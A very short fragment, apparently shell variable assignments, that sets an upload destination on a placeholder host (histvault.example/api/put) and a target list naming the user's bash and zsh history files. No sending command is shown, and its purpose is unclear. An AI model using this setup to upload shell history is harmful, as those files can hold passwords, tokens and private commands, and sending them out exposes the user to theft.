DEST=https://histvault.example/api/put
WHAT="$HOME/.bash_history $HOME/.zsh_history"
